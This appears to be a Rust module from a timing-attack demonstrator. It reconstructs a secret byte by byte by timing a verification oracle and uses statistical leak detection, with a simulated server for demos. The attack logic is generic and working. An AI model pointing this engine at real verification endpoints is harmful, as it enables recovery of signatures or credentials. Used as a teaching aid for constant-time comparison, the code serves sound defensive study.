//! Byte-by-byte brute-force reconstruction against a timing oracle.
//!
//! For each position, every alphabet symbol is tried in order with the
//! confirmed prefix in front and filler behind. The slowest symbol always
//! wins the position. When it does not stand clearly above the rest of the
//! round, the round is still reported as carrying no signal. A final oracle
//! call decides between success and failure.
//!
//! Candidates are tried strictly one after another. Running them
//! concurrently would let the calls contend and blur the signal.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use tokio::sync::watch;
use tokio::time::{sleep, Instant};

use super::log::RollingLog;
use super::state::{AttackReport, EngineSnapshot, ReconstructionState};
use crate::config::{AttackConfig, ComparatorConfig, ConfigError, LatencySource};
use crate::oracle::{SimulatedServer, VerificationOracle};
use crate::statistics::median;
use crate::types::{
    AttackRound, AttackStatus, CandidateMeasurement, RoundVerdict, SecretValue, Verification,
};

/// How many median absolute deviations the slowest candidate must sit above
/// the median of the other candidates. Keeps noise-only rounds from passing
/// as leaks.
const MIN_MARGIN_OVER_MAD: f64 = 5.0;

/// Cooperative stop flag shared between a run and whoever controls it.
///
/// Polled before each position, before each candidate and after each oracle
/// call. Never interrupts an in-flight call.
#[derive(Debug, Clone, Default)]
pub struct AbortSignal(Arc<AtomicBool>);

impl AbortSignal {
    /// Fresh, unset signal.
    pub fn new() -> Self {
        Self::default()
    }

    /// Request a stop. Idempotent.
    pub fn abort(&self) {
        self.0.store(true, Ordering::SeqCst);
    }

    /// Whether a stop was requested.
    pub fn is_aborted(&self) -> bool {
        self.0.load(Ordering::SeqCst)
    }
}

/// Drives one reconstruction run against an oracle.
pub struct ReconstructionEngine<O> {
    config: AttackConfig,
    oracle: O,
    abort: AbortSignal,
    publisher: Arc<watch::Sender<EngineSnapshot>>,
    state: ReconstructionState,
    log: RollingLog,
    latest_round: Option<AttackRound>,
    trying: Option<u8>,
    rounds: Vec<AttackRound>,
    oracle_calls: u64,
}

impl<O: VerificationOracle> ReconstructionEngine<O> {
    /// Create an engine with its own snapshot channel.
    pub fn new(config: AttackConfig, oracle: O) -> Result<Self, ConfigError> {
        let (tx, _rx) = watch::channel(EngineSnapshot::default());
        Self::with_publisher(config, oracle, AbortSignal::new(), Arc::new(tx))
    }

    pub(crate) fn with_publisher(
        config: AttackConfig,
        oracle: O,
        abort: AbortSignal,
        publisher: Arc<watch::Sender<EngineSnapshot>>,
    ) -> Result<Self, ConfigError> {
        config.validate()?;
        let len = oracle.secret_len();
        if len == 0 {
            return Err(ConfigError::EmptySecret);
        }
        Ok(Self {
            log: RollingLog::new(config.log_capacity)?,
            state: ReconstructionState::new(len),
            config,
            oracle,
            abort,
            publisher,
            latest_round: None,
            trying: None,
            rounds: Vec::new(),
            oracle_calls: 0,
        })
    }

    /// Signal that stops this engine's run.
    pub fn abort_signal(&self) -> AbortSignal {
        self.abort.clone()
    }

    /// Receive a snapshot after every step.
    pub fn subscribe(&self) -> watch::Receiver<EngineSnapshot> {
        self.publisher.subscribe()
    }

    /// Current reconstruction state.
    pub fn state(&self) -> &ReconstructionState {
        &self.state
    }

    /// The oracle, e.g. to inspect call counts after a run.
    pub fn oracle(&self) -> &O {
        &self.oracle
    }

    /// Run the attack to a terminal status.
    ///
    /// Calling this again after a run finished starts over from a fresh state.
    pub async fn run(&mut self) -> AttackReport {
        let len = self.oracle.secret_len();
        self.state = ReconstructionState::new(len);
        self.state.status = AttackStatus::Running;
        self.log.clear();
        self.rounds.clear();
        self.latest_round = None;
        self.trying = None;
        self.oracle_calls = 0;

        tracing::info!(
            secret_len = len,
            alphabet = self.config.alphabet.len(),
            "starting timing reconstruction"
        );
        self.log.append(">> TARGET: verification endpoint");
        self.log.append(format!(
            ">> PAYLOAD: {} symbols over {} candidates",
            len,
            self.config.alphabet.len()
        ));
        self.log.append(">> START: Remote Timing Analysis...");
        self.publish();

        let mut known = vec![self.config.filler; len];

        for position in 0..len {
            if self.abort.is_aborted() {
                return self.finish_aborted();
            }
            self.state.current_position = position;

            let mut round = AttackRound::new(position, self.config.alphabet.len());
            self.latest_round = Some(round.clone());
            self.publish();

            let symbols = self.config.alphabet.symbols().to_vec();
            for symbol in symbols {
                if self.abort.is_aborted() {
                    return self.finish_aborted();
                }
                known[position] = symbol;
                self.trying = Some(symbol);

                let (_, elapsed_ms) = self.measure(&known).await;
                if self.abort.is_aborted() {
                    // Result of a call that outlived the abort; discard it.
                    return self.finish_aborted();
                }

                round.candidates.push(CandidateMeasurement {
                    symbol,
                    elapsed_ms,
                    is_correct_internally: self
                        .oracle
                        .ground_truth(position, symbol)
                        .unwrap_or(false),
                });
                self.latest_round = Some(round.clone());
                self.publish();

                if !self.config.candidate_pause.is_zero() {
                    sleep(self.config.candidate_pause).await;
                }
            }

            if self.abort.is_aborted() {
                return self.finish_aborted();
            }

            let verdict = self.select(&round);
            known[position] = verdict.chosen();
            self.state.confirm(position, verdict.chosen());
            self.log_verdict(position, &verdict);

            round.verdict = Some(verdict);
            self.latest_round = Some(round.clone());
            self.rounds.push(round);
            self.publish();

            if !self.config.round_pause.is_zero() {
                sleep(self.config.round_pause).await;
            }
        }

        if self.abort.is_aborted() {
            return self.finish_aborted();
        }

        self.trying = None;
        let (verification, _) = self.measure(&known).await;
        if self.abort.is_aborted() {
            return self.finish_aborted();
        }

        if verification.ok {
            self.state.status = AttackStatus::Success;
            self.log.append(">> RESULT: value fully matched.");
            self.log.append(">> SERVER: Signature verification succeeded.");
        } else {
            self.state.status = AttackStatus::Fail;
            self.log.append(">> RESULT: Attack Failed.");
            if self.rounds.iter().all(|r| r.verdict.map_or(true, |v| !v.is_leak())) {
                self.log
                    .append(">> SYSTEM: Constant-time comparison prevented leakage.");
            } else {
                self.log
                    .append(">> SYSTEM: Reconstructed value was rejected.");
            }
        }

        tracing::info!(
            status = %self.state.status,
            oracle_calls = self.oracle_calls,
            "reconstruction finished"
        );
        self.publish();
        self.report()
    }

    /// One oracle call, returning the verdict and the latency to attribute.
    async fn measure(&mut self, candidate: &[u8]) -> (Verification, f64) {
        let started = Instant::now();
        let verification = self.oracle.verify(candidate).await;
        self.oracle_calls += 1;
        let latency_ms = match self.config.latency_source {
            LatencySource::Reported => verification.latency_ms,
            LatencySource::Observed => started.elapsed().as_secs_f64() * 1_000.0,
        };
        (verification, latency_ms)
    }

    /// Pick the position's symbol once the whole round has been measured.
    ///
    /// The slowest symbol is confirmed either way; the verdict only says
    /// whether it stood out from the others.
    fn select(&self, round: &AttackRound) -> RoundVerdict {
        let mut best: Option<(usize, &CandidateMeasurement)> = None;
        for (i, c) in round.candidates.iter().enumerate() {
            // Strict `>` keeps the first symbol on ties.
            if best.map_or(true, |(_, b)| c.elapsed_ms > b.elapsed_ms) {
                best = Some((i, c));
            }
        }

        let Some((best_index, b)) = best else {
            // Empty round: only reachable with an empty alphabet, which
            // validation rejects.
            return RoundVerdict::NoSignal {
                spread_ms: 0.0,
                symbol: self.config.filler,
            };
        };

        // Compare the winner against everyone else in the round.
        let others: Vec<f64> = round
            .candidates
            .iter()
            .enumerate()
            .filter(|(i, _)| *i != best_index)
            .map(|(_, c)| c.elapsed_ms)
            .collect();
        if !others.is_empty() {
            let center = median(&others);
            let deviations: Vec<f64> = others.iter().map(|l| (l - center).abs()).collect();
            let mad = median(&deviations);
            let margin_ms = b.elapsed_ms - center;
            if margin_ms > self.config.leak_threshold_ms && margin_ms > MIN_MARGIN_OVER_MAD * mad {
                return RoundVerdict::Leak {
                    symbol: b.symbol,
                    latency_ms: b.elapsed_ms,
                    margin_ms,
                };
            }
        }

        let min = round
            .candidates
            .iter()
            .map(|c| c.elapsed_ms)
            .fold(f64::INFINITY, f64::min);
        RoundVerdict::NoSignal {
            spread_ms: b.elapsed_ms - min,
            symbol: b.symbol,
        }
    }

    fn log_verdict(&mut self, position: usize, verdict: &RoundVerdict) {
        match *verdict {
            RoundVerdict::Leak {
                symbol,
                latency_ms,
                margin_ms,
            } => {
                tracing::debug!(
                    position,
                    symbol = %(symbol as char),
                    latency_ms,
                    margin_ms,
                    "round leaked"
                );
                self.log.append(format!(
                    "[Byte {}] LEAKAGE DETECTED: '{}' ({:.0}ms)",
                    position, symbol as char, latency_ms
                ));
            }
            RoundVerdict::NoSignal { spread_ms, .. } => {
                tracing::warn!(position, spread_ms, "no timing difference observed");
                self.log.append(format!(
                    "[Byte {}] FAILED: No timing difference observed.",
                    position
                ));
            }
        }
    }

    fn finish_aborted(&mut self) -> AttackReport {
        tracing::warn!(
            position = self.state.current_position,
            confirmed = self.state.confirmed_count(),
            "reconstruction aborted"
        );
        self.state.status = AttackStatus::Aborted;
        self.trying = None;
        self.log.append(">> ABORTED BY USER.");
        self.publish();
        self.report()
    }

    fn publish(&self) {
        self.publisher.send_replace(EngineSnapshot {
            state: self.state.clone(),
            latest_round: self.latest_round.clone(),
            trying: self.trying,
            log: self.log.to_vec(),
        });
    }

    fn report(&self) -> AttackReport {
        AttackReport {
            status: self.state.status,
            state: self.state.clone(),
            recovered: self.state.render(self.config.filler),
            rounds: self.rounds.clone(),
            leaked_positions: self
                .rounds
                .iter()
                .filter(|r| r.verdict.map_or(false, |v| v.is_leak()))
                .count(),
            oracle_calls: self.oracle_calls,
        }
    }
}

impl ReconstructionEngine<SimulatedServer> {
    /// Engine attacking an in-process server that holds `secret`.
    ///
    /// Unlike [`ReconstructionEngine::new`], this can check that every secret
    /// symbol is one the alphabet can produce. The server's noise is seeded
    /// from `config.seed`.
    pub fn simulated(
        secret: impl Into<SecretValue>,
        comparator: ComparatorConfig,
        config: AttackConfig,
    ) -> Result<Self, ConfigError> {
        let secret = secret.into();
        secret.validate(&config.alphabet)?;
        let server = SimulatedServer::new(secret, comparator, config.seed)?;
        Self::new(config, server)
    }
}
